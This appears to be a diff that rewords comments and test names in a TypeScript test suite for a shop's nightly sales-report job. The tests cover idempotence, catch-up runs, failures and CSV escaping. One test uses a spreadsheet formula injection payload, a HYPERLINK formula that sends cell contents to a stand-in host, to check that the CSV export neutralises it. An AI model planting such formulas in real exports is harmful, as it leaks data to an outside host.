@@ -8,7 +8,7 @@ import { address, customer, shop, warehouse } from '../../support/shop.ts';
 
 type Wrap = { orders?: (orders: Orders) => Orders; reports?: (reports: Reports) => Reports };
 
-/** A shop that sells from 1 March 2026 on, and its job; `wrap` may stand between the job and what it works on. */
+/** A shop that sells from 1 March 2026, and its report job. `wrap` wraps the job's ports. */
 const reportedShop = (wrap: Wrap = {}) => {
   const s = shop();
   const reports = inMemoryReports();
@@ -53,7 +53,7 @@ const reportedShop = (wrap: Wrap = {}) => {
 
 const none = { placed: 0, confirmed: 0, rejected: 0, cancelled: 0, shipped: 0, units: 0, revenue: 0 };
 
-/** Two days: on the first an order is placed and confirmed, on the second it is cancelled. */
+/** Two days: an order is placed and confirmed on the first, and cancelled on the second. */
 const twoDays = async (wrap?: Wrap) => {
   const s = reportedShop(wrap);
   await s.product('mug', 10, { amount: 1250 });
@@ -80,7 +80,7 @@ test('each event counts on its own day, and the bytes of a day that is reported 
   expect((await s.json('2026-03-02')).totals).toEqual([{ currency: 'EUR', ...none, cancelled: 1 }]);
   expect({ json: await s.text('2026-03-01'), csv: await s.text('2026-03-01', 'csv') }).toEqual(first);
 
-  // What was reported is what would be reported now: nothing was taken back from the first day.
+  // A report of today has the same bytes: nothing was taken back from the first day.
   const anew = inMemoryReports();
   await reportSales({ ...s.deps, reports: anew })();
   for (const day of ['2026-03-01', '2026-03-02']) {
@@ -121,7 +121,7 @@ test('a shop without orders has no reports', async () => {
   expect(s.reports.names()).toEqual([]);
 });
 
-test('nights that were skipped are made up for, days with nothing among them', async () => {
+test('skipped nights are made up for, including days without orders', async () => {
   const { s } = await twoDays();
   await s.report();
   s.clock.set('2026-03-03T23:59:59.999Z');
@@ -138,7 +138,7 @@ test('nights that were skipped are made up for, days with nothing among them', a
   expect((await s.json('2026-03-03')).totals).toMatchObject([{ placed: 1, confirmed: 1 }]);
 });
 
-test('the same night twice reports nothing anew', async () => {
+test('the same night twice reports nothing again', async () => {
   const { s } = await twoDays();
   await s.report();
   const before = await s.stored();
@@ -146,7 +146,7 @@ test('the same night twice reports nothing anew', async () => {
   expect(await s.stored()).toEqual(before);
 });
 
-test('two at once report every day once, and say the same', async () => {
+test('two runs at once report every day once, with the same content', async () => {
   const { s } = await twoDays();
   s.clock.set('2026-03-06T02:00:00.000Z');
   await Promise.all([s.report(), s.report(), s.report()]);
@@ -156,7 +156,7 @@ test('two at once report every day once, and say the same', async () => {
   expect((await s.json('2026-03-01')).totals).toMatchObject([{ placed: 1 }]);
 });
 
-/** Storage that dies at the write of this format, once. */
+/** Storage that fails once, at the write of this format. */
 const dyingAt = (format: 'csv' | 'json'): Wrap => {
   let left = 1;
   return {
@@ -168,7 +168,7 @@ const dyingAt = (format: 'csv' | 'json'): Wrap => {
   };
 };
 
-test.each(['csv', 'json'] as const)('a run that dies before the %s is made up for by the next', async (format) => {
+test.each(['csv', 'json'] as const)('the next run makes up for one that dies before the %s', async (format) => {
   const { s } = await twoDays(dyingAt(format));
   await expect(s.report()).rejects.toThrow('2026-03-01');
   expect(s.reports.names()).toEqual(format === 'csv' ? [] : ['sales/2026-03-01.csv']);
@@ -176,11 +176,11 @@ test.each(['csv', 'json'] as const)('a run that dies before the %s is made up fo
   expect(s.reports.names()).toEqual(['sales/2026-03-01.csv', 'sales/2026-03-01.json']);
 });
 
-test('a CSV that says something else is neither kept beside our JSON nor written over', async () => {
+test('a CSV with other content is neither accepted next to our JSON nor overwritten', async () => {
   const { s } = await twoDays();
   await s.reports.create('2026-03-01', 'csv', Buffer.from('other'));
   await expect(s.report()).rejects.toThrow('2026-03-01');
-  // The alert shows this to the operator, who alone can mend it.
+  // The alert shows this to the operator, the only one who can fix it.
   expect(s.log.entries.at(-1)).toMatchObject({
     event: 'report_failed',
     fields: { day: '2026-03-01', reason: expect.stringMatching(/different CSV for 2026-03-01.* Delete it/) },
@@ -191,7 +191,7 @@ test('a CSV that says something else is neither kept beside our JSON nor written
   expect(await s.report()).toEqual({ reported: 1, left: 0 });
 });
 
-test('a day that fails keeps no other day from its report, and is named at the end', async () => {
+test('a day that fails does not stop the reports of other days, and is named at the end', async () => {
   let broken = new Set(['2026-03-02', '2026-03-04']);
   const { s } = await twoDays({
     orders: (orders) => ({
@@ -214,7 +214,7 @@ test('a day that fails keeps no other day from its report, and is named at the e
   expect(await s.report()).toEqual({ reported: 2, left: 0 });
 });
 
-/** The days that the job asks about, where `fail` makes of some of them what it likes. */
+/** Records the days that the job asks for. `fail` may throw for some of them. */
 const watched = (fail: (day: string) => void): { tried: string[]; wrap: Wrap } => {
   const tried: string[] = [];
   const wrap: Wrap = {
@@ -261,7 +261,7 @@ test('days that fail by themselves do not end the run, however many they are', a
   expect([...(await s.reports.listDays())]).toEqual(['2026-03-01']);
 });
 
-test('an order whose amounts make no sum fails its day loudly', async () => {
+test('an order whose amounts cannot be added up fails its day loudly', async () => {
   const { s } = await twoDays();
   for (const { id } of s.orders.stored()) {
     const stored = await s.orders.get(id);
@@ -274,7 +274,7 @@ test('an order whose amounts make no sum fails its day loudly', async () => {
   expect(JSON.stringify(s.log.entries)).toContain('not a safe integer');
 });
 
-test('a long run begins no further day after some minutes, says how many are left, and the next goes on', async () => {
+test('a long run starts no further day after some minutes and says how many are left, and the next run goes on', async () => {
   const { s } = await twoDays({
     reports: (reports) => ({
       ...reports,
@@ -310,7 +310,7 @@ test('currencies have totals and rows of their own', async () => {
   ]);
 });
 
-test('a name that a spreadsheet would calculate is told as it is in JSON, and as text in CSV', async () => {
+test('a name that a spreadsheet would calculate is unchanged in JSON, and text in CSV', async () => {
   const s = reportedShop();
   const name = '=HYPERLINK("http://evil.test?"&A1)';
   const details = { name, price: { amount: 100, currency: 'EUR' }, active: true };
@@ -323,7 +323,7 @@ test('a name that a spreadsheet would calculate is told as it is in JSON, and as
   expect(await s.text('2026-03-01', 'csv')).toContain(`,mug,"'=HYPERLINK(""http://evil.test?""&A1)",1,`);
 });
 
-test('a day of many events shows in the log how far it is, and how long it took', async () => {
+test('a day with many events logs its progress and how long it took', async () => {
   const { s } = await twoDays({
     orders: (orders) => ({
       ...orders,
